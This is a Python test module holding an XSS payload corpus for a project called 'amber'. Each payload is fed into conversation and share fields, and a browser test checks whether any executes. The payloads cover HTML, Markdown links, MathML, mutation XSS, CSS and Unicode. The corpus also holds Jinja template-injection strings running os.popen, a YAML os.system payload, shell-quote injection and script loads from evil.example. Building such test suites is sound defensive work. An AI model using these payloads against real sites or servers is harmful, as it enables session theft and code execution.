"""The XSS corpus: hostile strings written for amber's own surfaces, grouped by kind.

Every payload goes into every field a conversation or a share has (see
``xss_site.FIELDS``). They are aimed at what amber really does with text: Markdown
through markdown-it (raw HTML off, a scheme allowlist on links), TeX through
latex2mathml and amber's own MathML writer, code through Pygments, and plain
strings through Jinja's autoescape in attributes, ``<title>``, ``<meta>`` and the
preview server's form fields. So most link payloads are Markdown link forms
(inline, reference, autolink, bare, image), and the HTML ones probe parser
states (raw text, comments, CDATA, foreign content) that matter only if escaping
ever slipped.

A payload that runs calls ``__xss(N)`` (``N`` is its 1-based position in
``PAYLOADS``), or ``alert``/``confirm``/``prompt``/``print``; the browser test
traps all of them before any page script runs, so an execution names its payload.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "XSS()"
"""Written into payloads where script would run; replaced by ``__xss(N)``."""


@dataclass(frozen=True)
class Payload:
    number: int
    """1-based position in ``PAYLOADS``; what ``__xss(N)`` reports."""
    kind: str
    """The group: html, handler, inline-link, reference-link, autolink, bare-link, image,
    fence, math, mutation, breakout, css, structure, unicode."""
    name: str
    text: str

    @property
    def one_line(self) -> str:
        """The payload with line breaks as spaces, for fields that hold one line
        (link text, image alt, a table cell, a fence's info string)."""
        return " ".join(self.text.splitlines()) or self.text


_HUGE_MATRIX = (r"\begin{pmatrix}" + r"\\".join(["&".join(["x_{XSS()}"] * 8)] * 12)
                + r"\end{pmatrix}")
"""A 12 by 8 matrix: under the typesetting limit, so it really becomes MathML."""
_HUGE_SOURCE = (r"\begin{bmatrix}" + r"\\".join(["&".join(["XSS()"] * 20)] * 60)
                + r"\end{bmatrix}")
"""Over the limit: shown as its source."""
_DEEP_BEGIN = r"\begin{matrix}" * 150 + "x" + r"\end{matrix}" * 150
_ZALGO = "j\u0334\u0335a\u0336\u0337v\u0338a\u0321\u0322s\u0327\u0328cript:XSS()"

_RAW: list[tuple[str, str, str]] = [
    # --- HTML elements that run script or load something ----------------------------
    ("html", "script", "<script>XSS()</script>"),
    ("html", "script-mixed-case", "<ScRiPt>XSS()</sCrIpT>"),
    ("html", "script-src", '<script src="https://evil.example/x.js"></script>'),
    ("html", "script-split", "<scr<script>ipt>XSS()</scr</script>ipt>"),
    ("html", "script-nul", "<scr\x00ipt>XSS()</scr\x00ipt>"),
    ("html", "img-onerror", "<img src=x onerror=XSS()>"),
    ("html", "img-onerror-quoted", '<img src="x" onerror="XSS()">'),
    ("html", "svg-onload", "<svg onload=XSS()>"),
    ("html", "svg-slash-onload", "<svg/onload=XSS()>"),
    ("html", "iframe-srcdoc", '<iframe srcdoc="<script>parent.XSS()</script>"></iframe>'),
    ("html", "iframe-javascript", '<iframe src="javascript:XSS()"></iframe>'),
    ("html", "details-ontoggle", "<details open ontoggle=XSS()><summary>s</summary></details>"),
    ("html", "body-onload", "<body onload=XSS()>"),
    ("html", "style-element", "<style>@import 'javascript:XSS()';body{background:red}</style>"),
    ("html", "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:XSS()">'),
    ("html", "meta-refresh-data",
     '<meta http-equiv=refresh content="0; url=data:text/html,<script>XSS()</script>">'),
    ("html", "base-href", '<base href="javascript:XSS()//">'),
    ("html", "form-action", '<form action="javascript:XSS()"><button>go</button></form>'),
    ("html", "button-formaction", '<form><button formaction="javascript:XSS()">go</button></form>'),
    ("html", "object-data", '<object data="javascript:XSS()"></object>'),
    ("html", "embed-src", '<embed src="data:text/html,<script>XSS()</script>">'),
    ("html", "template", "<template><img src=x onerror=XSS()></template>"),
    ("html", "noscript", "<noscript><img src=x onerror=XSS()></noscript>"),
    ("html", "math-href", '<math href="javascript:XSS()"><mi>x</mi></math>'),
    ("html", "math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:XSS()">'
     "<mi>x</mi></maction></math>"),
    ("html", "svg-foreignobject",
     "<svg><foreignObject><img src=x onerror=XSS()></foreignObject></svg>"),
    ("html", "svg-a-xlink", '<svg><a xlink:href="javascript:XSS()"><text y="9">t</text></a></svg>'),
    ("html", "svg-animate",
     '<svg><a><animate attributeName="href" values="javascript:XSS()"/><text>t</text></a></svg>'),
    ("html", "svg-set", '<svg><set attributeName="onload" to="XSS()"/></svg>'),
    ("html", "video-onerror", "<video><source onerror=XSS()></video>"),
    ("html", "input-autofocus", "<input autofocus onfocus=XSS()>"),
    ("html", "select-autofocus", "<select autofocus onfocus=XSS()></select>"),
    ("html", "textarea-autofocus", "<textarea autofocus onfocus=XSS()></textarea>"),
    ("html", "marquee", "<marquee onstart=XSS()>m</marquee>"),
    ("html", "link-import", '<link rel="import" href="data:text/html,<script>XSS()</script>">'),
    ("html", "frameset", "<frameset onload=XSS()>"),
    ("html", "raw-anchor", '<a href="javascript:XSS()">raw anchor</a>'),
    ("html", "isindex", '<isindex type=image src=1 onerror=XSS()>'),
    # --- event handlers in shapes parsers disagree on --------------------------------
    ("handler", "onmouseover-b", "<b onmouseover=XSS()>hover me</b>"),
    ("handler", "onclick-p", '<p onclick="XSS()">click me</p>'),
    ("handler", "slash-separated", "<img/src/onerror=XSS()>"),
    ("handler", "tab-separated", "<img\tsrc=x\tonerror=XSS()>"),
    ("handler", "newline-separated", "<img\nsrc=x\nonerror=XSS()\n>"),
    ("handler", "entity-in-handler", '<img src=x onerror="&#88;SS()&#x3b;XSS()">'),
    ("handler", "backtick-attribute", "<img src=`x` onerror=XSS()>"),
    ("handler", "tabindex-onfocus", "<div tabindex=0 autofocus onfocus=XSS()>f</div>"),
    ("handler", "onpointerenter", "<a onpointerenter=XSS()>p</a>"),
    ("handler", "onanimationstart",
     "<div style=animation-name:x onanimationstart=XSS()>a</div>"),
    ("handler", "unclosed-tag", "<img src=x onerror=XSS() "),
    ("handler", "double-open", "<<img src=x onerror=XSS()>>"),
    # --- inline links: schemes and their disguises -----------------------------------
    ("inline-link", "javascript", "[click](javascript:XSS())"),
    ("inline-link", "mixed-case", "[click](JaVaScRiPt:XSS())"),
    ("inline-link", "vbscript", "[click](vbscript:msgbox(1))"),
    ("inline-link", "data-html", "[click](data:text/html;base64,PHNjcmlwdD5YU1MoKTwvc2NyaXB0Pg==)"),
    ("inline-link", "data-svg", "[click](data:image/svg+xml,<svg/onload=XSS()>)"),
    ("inline-link", "decimal-entity", "[click](&#106;avascript:XSS())"),
    ("inline-link", "hex-entity", "[click](&#x6A;avascript:XSS())"),
    ("inline-link", "hex-entity-no-semicolon", "[click](&#x6a&#x61;vascript:XSS())"),
    ("inline-link", "padded-entity", "[click](&#0000106&#0000097vascript:XSS())"),
    ("inline-link", "colon-entity", "[click](javascript&colon;XSS())"),
    ("inline-link", "colon-decimal", "[click](javascript&#58;XSS())"),
    ("inline-link", "colon-hex", "[click](javascript&#x3A;XSS())"),
    ("inline-link", "percent-scheme", "[click](%6A%61vascript:XSS())"),
    ("inline-link", "percent-colon", "[click](javascript%3AXSS())"),
    ("inline-link", "tab-entity", "[click](java&#x09;script:XSS())"),
    ("inline-link", "newline-entity", "[click](java&#10;script:XSS())"),
    ("inline-link", "cr-entity", "[click](java&#13;script:XSS())"),
    ("inline-link", "angle-tab", "[click](<java\tscript:XSS()>)"),
    ("inline-link", "angle-space", "[click](<javascript :XSS()>)"),
    ("inline-link", "leading-spaces", "[click](   javascript:XSS())"),
    ("inline-link", "leading-space-entity", "[click](&#x20;javascript:XSS())"),
    ("inline-link", "leading-control", "[click](\x01javascript:XSS())"),
    ("inline-link", "leading-control-angle", "[click](<\x01\x02javascript:XSS()>)"),
    ("inline-link", "nul-entity", "[click](&#0;javascript:XSS())"),
    ("inline-link", "backslash-escape", "[click](java\\script:XSS())"),
    ("inline-link", "with-title", '[click](javascript:XSS() "a title")'),
    ("inline-link", "comment-trick", "[click](javascript://%0aXSS())"),
    ("inline-link", "livescript", "[click](livescript:XSS())"),
    ("inline-link", "file", "[click](file:///etc/passwd)"),
    ("inline-link", "blob", "[click](blob:https://evil.example/uuid)"),
    ("inline-link", "quote-in-url", '[click](https://example.com/" onmouseover="XSS())'),
    ("inline-link", "nested-link", "[[inner](javascript:XSS())](https://example.com/)"),
    # --- reference links ----------------------------------------------------------------
    ("reference-link", "full", "[click][r]\n\n[r]: javascript:XSS()"),
    ("reference-link", "collapsed", "[r][]\n\n[r]: JAVASCRIPT:XSS()"),
    ("reference-link", "shortcut", "[r]\n\n[r]: vbscript:msgbox(1)"),
    ("reference-link", "angle", "[click][r]\n\n[r]: <javascript:XSS()>"),
    ("reference-link", "entity", "[click][r]\n\n[r]: &#106;avascript:XSS()"),
    ("reference-link", "titled", '[click][r]\n\n[r]: javascript:XSS() "title"'),
    ("reference-link", "data", "[click][r]\n\n[r]: data:text/html,<script>XSS()</script>"),
    ("reference-link", "newline-entity", "[click][r]\n\n[r]: java&#x0A;script:XSS()"),
    ("reference-link", "case-folded-label", "[CLICK]\n\n[click]: javascript:XSS()"),
    ("reference-link", "image-ref", "![alt][r]\n\n[r]: javascript:XSS()"),
    ("reference-link", "title-breakout",
     '[click][r]\n\n[r]: https://example.com/ "x\\" onmouseover=\\"XSS()"'),
    # --- autolinks -------------------------------------------------------------------------
    ("autolink", "javascript", "<javascript:XSS()>"),
    ("autolink", "upper", "<JAVASCRIPT:XSS()>"),
    ("autolink", "vbscript", "<vbscript:msgbox(1)>"),
    ("autolink", "data", "<data:text/html,XSS()>"),
    ("autolink", "disguised-http", "<javascript:XSS()//http://example.com>"),
    ("autolink", "mailto-body", "<mailto:a@example.com?body=<script>XSS()</script>>"),
    ("autolink", "email-quote", '<a"onmouseover="XSS()"@example.com>'),
    ("autolink", "http-quote", '<https://example.com/"onmouseover="XSS()>'),
    ("autolink", "entity", "<&#106;avascript:XSS()>"),
    # --- bare text that linkify turns into links -----------------------------------------
    ("bare-link", "bare-javascript", "see javascript:XSS() now"),
    ("bare-link", "www-script", 'www.example.com/"><script>XSS()</script>'),
    ("bare-link", "http-img", "http://example.com/<img src=x onerror=XSS()>"),
    ("bare-link", "mailto-javascript", "mailto:a@example.com?x=javascript:XSS()"),
    ("bare-link", "email-quote", 'a@example.com" onclick="XSS()'),
    ("bare-link", "protocol-relative", "//evil.example/%0aXSS()"),
    ("bare-link", "ftp", "ftp://evil.example/XSS()"),
    # --- images ----------------------------------------------------------------------------
    ("image", "javascript", "![alt](javascript:XSS())"),
    ("image", "data-svg", "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9WFNTKCk+)"),
    ("image", "vbscript", "![alt](vbscript:msgbox(1))"),
    ("image", "entity", "![alt](&#x6A;avascript:XSS())"),
    ("image", "alt-breakout", '![a" onerror="XSS()](https://example.com/a.png)'),
    ("image", "title-breakout", '![alt](https://example.com/a.png "t\\" onerror=\\"XSS()")'),
    ("image", "alt-tag", "![<img src=x onerror=XSS()>](https://example.com/a.png)"),
    ("image", "image-in-link", "[![alt](javascript:XSS())](javascript:XSS())"),
    ("image", "angle-data", "![alt](<data:text/html,<script>XSS()</script>>)"),
    ("image", "remote", "![tracker](https://evil.example/pixel.png)"),
    # --- fence info strings -------------------------------------------------------------------
    ("fence", "quote-script", '```"><script>XSS()</script>\nx = 1\n```'),
    ("fence", "python-onload", "```python onload=XSS()\nprint(1)\n```"),
    ("fence", "attribute-breakout", '```html" onmouseover="XSS()\n<b>x</b>\n```'),
    ("fence", "tilde-img", "~~~<img src=x onerror=XSS()>\ncode\n~~~"),
    ("fence", "javascript-scheme", "```javascript:XSS()\ncode\n```"),
    ("fence", "braces", "```{onclick=XSS() .class #id}\ncode\n```"),
    ("fence", "closing-pre", "```js\n</code></pre><script>XSS()</script>\n```"),
    ("fence", "html-lexer", "```html\n<script>XSS()</script><img src=x onerror=XSS()>\n```"),
    ("fence", "svg-lexer", "```svg\n<svg onload=XSS()></svg>\n```"),
    ("fence", "css-lexer",
     "```css\nbody { background: url(javascript:XSS()); x: expression(XSS()) }\n```"),
    ("fence", "jinja-lexer", "```html+jinja\n{{ XSS() }}{% raw %}<script>{% endraw %}\n```"),
    ("fence", "unclosed", "```'><svg onload=XSS()>\nnever closed"),
    # --- math --------------------------------------------------------------------------------
    ("math", "href", r"$\href{javascript:XSS()}{click}$"),
    ("math", "href-display", r"$$\href{javascript:XSS()}{click}$$"),
    ("math", "text-script", r"\(\text{<script>XSS()</script>}\)"),
    ("math", "unicode-tags", r"\[\unicode{x3C}script\unicode{x3E}XSS()\]"),
    ("math", "style", r"$\style{background:url(javascript:XSS())}{x}$"),
    ("math", "class-breakout", r'$\class{x" onclick="XSS()}{x}$'),
    ("math", "color-breakout", r'$\color{red" onmouseover="XSS()}{x}$'),
    ("math", "mathrm-tag", r"$\mathrm{<img src=x onerror=XSS()>}$"),
    ("math", "close-math", r"$x</math><img src=x onerror=XSS()>$"),
    ("math", "close-annotation", r"$\text{</annotation><script>XSS()</script>}$"),
    ("math", "operatorname-svg", r"$\operatorname{<svg onload=XSS()>}$"),
    ("math", "newcommand-bomb", r"$\newcommand{\x}{\x\x}\x$"),
    ("math", "mspace-breakout", r'$\mspace{"onclick=XSS()}{x}$'),
    ("math", "huge-begin", f"$${_HUGE_MATRIX}$$"),
    ("math", "huge-source", f"$${_HUGE_SOURCE}$$"),
    ("math", "deep-begin", f"${_DEEP_BEGIN}$"),
    ("math", "cssid", r"$\cssId{x}{XSS()}$"),
    ("math", "mathbb-breakout", r'$\mathbb{"><img onerror=XSS() src=x>}$'),
    ("math", "unicode-entity", r"$\unicode{38}#x3C;script$"),
    # --- mutation XSS: parser states that re-parse differently ---------------------------
    ("mutation", "noscript-title", '<noscript><p title="</noscript><img src=x onerror=XSS()>">'),
    ("mutation", "style-img", "<style><img src=x onerror=XSS()></style>"),
    ("mutation", "title-img", "<title><img src=x onerror=XSS()></title>"),
    ("mutation", "textarea-close", "<textarea></textarea><img src=x onerror=XSS()>"),
    ("mutation", "svg-style", "<svg><style><img src=x onerror=XSS()></style></svg>"),
    ("mutation", "math-mglyph",
     "<math><mtext><table><mglyph><style><img src=x onerror=XSS()></style></mglyph></table>"
     "</mtext></math>"),
    ("mutation", "comment-open", "<!--><img src=x onerror=XSS()>-->"),
    ("mutation", "comment-bang", "<!-- --!><img src=x onerror=XSS()> -->"),
    ("mutation", "cdata", "<![CDATA[><img src=x onerror=XSS()>]]>"),
    ("mutation", "svg-cdata", "<svg><![CDATA[><img src=x onerror=XSS()>]]></svg>"),
    ("mutation", "form-math",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=XSS()>"),
    ("mutation", "xmp-title", '<xmp><p title="</xmp><img src=x onerror=XSS()>">'),
    ("mutation", "nested-iframe", '<iframe><iframe srcdoc="<script>XSS()</script>"></iframe>'),
    ("mutation", "xhtml-namespace",
     '<x:script xmlns:x="http://www.w3.org/1999/xhtml">XSS()</x:script>'),
    ("mutation", "svg-p-style", "<svg></p><style><a id=\"</style><img src=1 onerror=XSS()>\">"),
    ("mutation", "processing-instruction", "<?xml-stylesheet href=javascript:XSS()?>"),
    # --- attribute and context breakouts --------------------------------------------------
    ("breakout", "double-quote", '" onmouseover="XSS()'),
    ("breakout", "single-quote", "' onmouseover='XSS()"),
    ("breakout", "backtick", "` onmouseover=XSS() `"),
    ("breakout", "tag-close", '"><script>XSS()</script>'),
    ("breakout", "single-tag-close", "'><img src=x onerror=XSS()>"),
    ("breakout", "autofocus", 'x" autofocus onfocus="XSS()'),
    ("breakout", "title-close", "</title><script>XSS()</script>"),
    ("breakout", "textarea-close", "</textarea><script>XSS()</script>"),
    ("breakout", "comment-close", "--><script>XSS()</script>"),
    ("breakout", "cdata-close", "]]><script>XSS()</script>"),
    ("breakout", "script-close", "</script><script>XSS()</script>"),
    ("breakout", "head-close", "</head><body onload=XSS()>"),
    ("breakout", "json-string", '"};XSS();//'),
    ("breakout", "jinja-expression", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("breakout", "jinja-statement", "{% for x in ().__class__.__base__.__subclasses__() %}"
     "{{ x }}{% endfor %}"),
    ("breakout", "template-literal", "${XSS()}"),
    ("breakout", "line-separators", "\u2028XSS()\u2029XSS()"),
    ("breakout", "yaml-document", "---\n!!python/object/apply:os.system ['XSS()']\n..."),
    ("breakout", "shell-quote", "'; XSS(); echo '"),
    # --- CSS -------------------------------------------------------------------------------
    ("css", "style-url", '<div style="background:url(javascript:XSS())">d</div>'),
    ("css", "style-expression", '<p style="width:expression(XSS())">p</p>'),
    ("css", "style-import", "<style>@import url(javascript:XSS());</style>"),
    ("css", "behavior", "<style>*{behavior:url(#default#time2)}</style>"),
    ("css", "link-stylesheet", '<link rel="stylesheet" href="javascript:XSS()">'),
    ("css", "moz-binding", '<x style="-moz-binding:url(https://evil.example/x.xml#x)">x</x>'),
    ("css", "markdown-attrs", 'text{style="color:red" onclick="XSS()"}'),
    ("css", "table-align-style", "| a |\n|:-:|\n| <span style=x>b</span> |"),
    ("css", "escaped-expression", r"<p style=\"w&#105;dth:expr&#101;ssion(XSS())\">"),
    # --- links inside tables, footnotes, task lists, headings, quotes --------------------
    ("structure", "table-link",
     "| a | b |\n|---|---|\n| [t](javascript:XSS()) | <img src=x onerror=XSS()> |"),
    ("structure", "table-aligned",
     "| left | centre |\n|:---|:---:|\n| [t](vbscript:msgbox(1)) | <svg onload=XSS()> |"),
    ("structure", "footnote-link", "note[^1]\n\n[^1]: [t](javascript:XSS())"),
    ("structure", "footnote-label",
     '[^"><script>XSS()</script>]\n\n[^"><script>XSS()</script>]: x'),
    ("structure", "footnote-id-breakout", '[^x" onclick="XSS()]\n\n[^x" onclick="XSS()]: y'),
    ("structure", "task-link", "- [ ] [t](javascript:XSS())\n- [x] <img src=x onerror=XSS()>"),
    ("structure", "task-breakout", '- [ ] " onclick="XSS()\n- [x] \'><svg onload=XSS()>'),
    ("structure", "heading-link", "# [t](javascript:XSS())\n## <script>XSS()</script>"),
    ("structure", "heading-id", '# x" id="y" onclick="XSS()'),
    ("structure", "blockquote-link", "> [t](javascript:XSS())\n> > <iframe src=javascript:XSS()>"),
    ("structure", "nested-list",
     "- a\n  - [t](data:text/html,XSS())\n    1. <b onclick=XSS()>b</b>"),
    ("structure", "strikethrough", "~~[t](javascript:XSS())~~ **<img src=x onerror=XSS()>**"),
    ("structure", "code-span", "`</code><script>XSS()</script>`"),
    # --- unicode tricks -------------------------------------------------------------------
    ("unicode", "rtl-override", "[click](\u202ejavascript:XSS())"),
    ("unicode", "rtl-in-text", "\u202e<script>XSS()</script>\u202c"),
    ("unicode", "zero-width-scheme", "[click](java\u200bscript:XSS())"),
    ("unicode", "zero-width-joiner", "[click](j\u200davascript:XSS())"),
    ("unicode", "bom-scheme", "[click](\ufeffjavascript:XSS())"),
    ("unicode", "nbsp-scheme", "[click](\u00a0javascript:XSS())"),
    ("unicode", "fullwidth-scheme", "[click](ｊａｖａｓｃｒｉｐｔ：XSS())"),
    ("unicode", "fullwidth-tags", "＜script＞XSS()＜/script＞"),
    ("unicode", "cyrillic-a", "[click](j\u0430vascript:XSS())"),
    ("unicode", "line-separator-link", "[click](java\u2028script:XSS())"),
    ("unicode", "zalgo-scheme", f"[click]({_ZALGO})"),
    ("unicode", "overlong-utf8", "[click](%C0%BCscript%C0%BEXSS())"),
    ("unicode", "dotless-i", "[click](javascr\u0131pt:XSS())"),
    ("unicode", "c1-control", "[click](\x85javascript:XSS())"),
]


def _build() -> tuple[Payload, ...]:
    payloads = []
    for number, (kind, name, text) in enumerate(_RAW, start=1):
        payloads.append(Payload(number, kind, name, text.replace(MARK, f"__xss({number})")))
    return tuple(payloads)


PAYLOADS: tuple[Payload, ...] = _build()
"""The whole corpus, in a fixed order (the browser test reports numbers)."""

KINDS: tuple[str, ...] = tuple(dict.fromkeys(p.kind for p in PAYLOADS))
